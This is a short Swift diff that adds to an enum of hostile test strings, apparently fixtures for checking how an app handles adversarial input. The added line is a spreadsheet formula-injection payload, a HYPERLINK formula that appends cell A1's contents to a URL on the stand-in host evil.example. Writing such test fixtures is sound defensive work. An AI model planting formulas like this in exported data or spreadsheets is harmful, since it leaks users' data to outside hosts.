@@ -8,6 +8,9 @@ enum HostileText {
   /// What a venue says that refuses what it has applied.
   static let falseRefusal = "The leverage could not be changed"
 
+  /// A formula that would send a spreadsheet's cell to somebody else.
+  static let formula = #"=HYPERLINK("https://evil.example/?"&A1,"applied")"#
+
   /// A megabyte of words.
   static let hugeMessage = String(repeating: "leverage ", count: 116_509)
 
